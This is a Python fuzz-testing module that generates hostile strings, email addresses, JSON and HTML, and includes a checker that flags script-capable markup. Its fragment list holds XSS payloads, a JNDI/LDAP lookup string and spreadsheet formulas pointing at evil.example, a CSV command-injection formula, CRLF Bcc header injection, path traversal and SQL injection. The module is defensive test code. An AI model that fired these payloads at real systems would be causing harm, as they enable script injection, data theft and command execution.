"""Generated hostile input for the fuzz tests: strings, addresses, JSON values and post HTML
built from fragments that broke (or could break) this kind of software.

Every generator takes a ``random.Random`` so a failing run is reproduced from its seed.
"""

from __future__ import annotations

import random
import re
import string
from typing import Any

import lxml.html

# Markup, script and URL tricks, quoting games, placeholders, terminal and spreadsheet syntax,
# Unicode oddities, format strings: each one is harmless only if handled as data.
FRAGMENTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "&quot; onload=&quot;alert(1)",
    '"><svg/onload=alert(1)>',
    "<iframe src=javascript:alert(1)></iframe>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<form action=https://evil.example><input name=q></form>",
    "<object data=x></object><embed src=x>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<!--",
    "]]>",
    "<![CDATA[",
    "%%email%%",
    "%%unsubscribe_url%%",
    "%%name_html%%",
    "%%confirm_url%%",
    "{{ 7*7 }}",
    "{% raw %}",
    "${jndi:ldap://evil.example/a}",
    "[bold]x[/]",
    "[link=javascript:alert(1)]x[/link]",
    "[red",
    "\x1b[2J\x1b[31m",
    '=HYPERLINK("https://evil.example")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\x00",
    "\r\nBcc: victim@example.net",
    "\u202e",
    "\ufeff",
    "\u2028",
    "Ｅｘａｍｐｌｅ",
    "ẞtraße",
    "İstanbul",
    "😀" * 3,
    "%s%s%n",
    "../../etc/passwd",
    "' OR 1=1 --",
    "a" * 300,
]

ADDRESS_TRICKS = [
    "Reader@Example.NET",
    "reader@example.net",
    "READER@EXAMPLE.NET",
    "josé@example.net",
    "reader@exämple.net",
    "reader@xn--exmple-cua.net",
    "user@[127.0.0.1]",
    '"quoted local"@example.net',
    "a@b",
    "@example.net",
    "reader@",
    "reader@@example.net",
    "reader@example.net\r\nBcc: x@example.net",
    "reader@example.net, other@example.net",
    "<reader@example.net>",
    "reader+tag@example.net",
    "x" * 250 + "@example.net",
    "reader@" + "a" * 64 + ".example.net",
    "reader@example.net" + " " * 10,
    "",
]


def text(rng: random.Random, parts: int = 4) -> str:
    """A string of a few fragments and random characters, sometimes very long."""
    pieces = [rng.choice(FRAGMENTS) for _ in range(rng.randint(1, parts))]
    if rng.random() < 0.3:
        pieces.append("".join(rng.choice(string.printable) for _ in range(rng.randint(1, 40))))
    if rng.random() < 0.05:
        pieces.append("x" * rng.choice([1_000, 10_000, 100_000]))
    rng.shuffle(pieces)
    return "".join(pieces)


def address(rng: random.Random) -> str:
    """An address that is valid, valid-but-tricky or invalid, with a hostile local part now and then."""
    roll = rng.random()
    if roll < 0.4:
        base = rng.choice(ADDRESS_TRICKS)
    elif roll < 0.7:
        local = "".join(
            rng.choice(string.ascii_letters + "._+-") for _ in range(rng.randint(1, 12))
        )
        base = f"{local.strip('.') or 'x'}@example.net"
    else:
        base = f"{text(rng, 1)}@example.net"
    if rng.random() < 0.2:
        base = "".join(c.upper() if rng.random() < 0.5 else c for c in base)
    return base


def json_value(rng: random.Random, depth: int = 0) -> Any:
    """Any JSON value, with the wrong types where our code expects others."""
    roll = rng.random()
    if depth > 3 or roll < 0.35:
        return rng.choice(
            [None, True, False, 0, -1, 2**63, 1e308, -0.0, "", text(rng, 2), "2016-07-01T00:00:00"]
        )
    if roll < 0.65:
        return [json_value(rng, depth + 1) for _ in range(rng.randint(0, 4))]
    return {text(rng, 1)[:20]: json_value(rng, depth + 1) for _ in range(rng.randint(0, 4))}


def nested_json(depth: int) -> bytes:
    """A JSON document nested ``depth`` levels deep (a parser's recursion limit)."""
    return b"[" * depth + b"]" * depth


def post_html(rng: random.Random) -> str:
    """Post body HTML that a hostile or careless website could publish."""
    blocks = []
    for _ in range(rng.randint(1, 6)):
        fragment = rng.choice(FRAGMENTS)
        attr = rng.choice(FRAGMENTS).replace('"', "&quot;")
        blocks.append(
            rng.choice(
                [
                    f"<p>{fragment}</p>",
                    f'<p><img src="https://example.org/a.png" alt="{attr}" title="{attr}"></p>',
                    f'<p><a href="https://example.org/{fragment}" title="{attr}">link</a></p>',
                    f"<blockquote>{fragment}<p>{attr}</p></blockquote>",
                    f'<table><tr><td title="{attr}">{fragment}</td></tr></table>',
                    fragment,
                ]
            )
        )
    return "".join(blocks)


# What no page or email we produce may contain, whatever came in.
FORBIDDEN_TAGS = {
    "script",
    "iframe",
    "object",
    "embed",
    "form",
    "frame",
    "frameset",
    "applet",
    "base",
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "background", "poster", "xlink:href"}
_SCHEME = re.compile(r"^[\x00-\x20]*([a-z][a-z0-9+.-]*):", re.IGNORECASE)
_INVISIBLE = re.compile(r"[\x00-\x20\x7f]+")


def scripty(markup: str, *, origin: str = "") -> list[str]:
    """The script-capable constructs in ``markup`` (empty when it is safe), found by parsing it
    as a browser would: forbidden elements, ``on*`` attributes, script-capable URL schemes,
    ``<meta http-equiv=refresh>``. A web page of ours may hold forms that post to its ``origin``."""
    if not markup.strip():
        return []
    found: list[str] = []
    root = lxml.html.document_fromstring(markup)
    for element in root.iter():
        tag = element.tag if isinstance(element.tag, str) else ""
        action = element.get("action", "/")
        own_form = origin and tag.lower() == "form" and action.startswith(("/", origin + "/"))
        if tag.lower() in FORBIDDEN_TAGS and not own_form:
            found.append(f"<{tag}>")
        if tag.lower() == "meta" and element.get("http-equiv", "").strip().lower() == "refresh":
            found.append("<meta http-equiv=refresh>")
        for name, value in element.attrib.items():
            lowered = str(name).lower()
            if lowered.startswith("on"):
                found.append(f"{lowered}= on <{tag}>")
            if lowered in URL_ATTRIBUTES:
                scheme = _SCHEME.match(_INVISIBLE.sub("", value))
                if scheme and scheme.group(1).lower() in {"javascript", "vbscript", "data"}:
                    found.append(f"{lowered}={value[:40]!r} on <{tag}>")
    return found
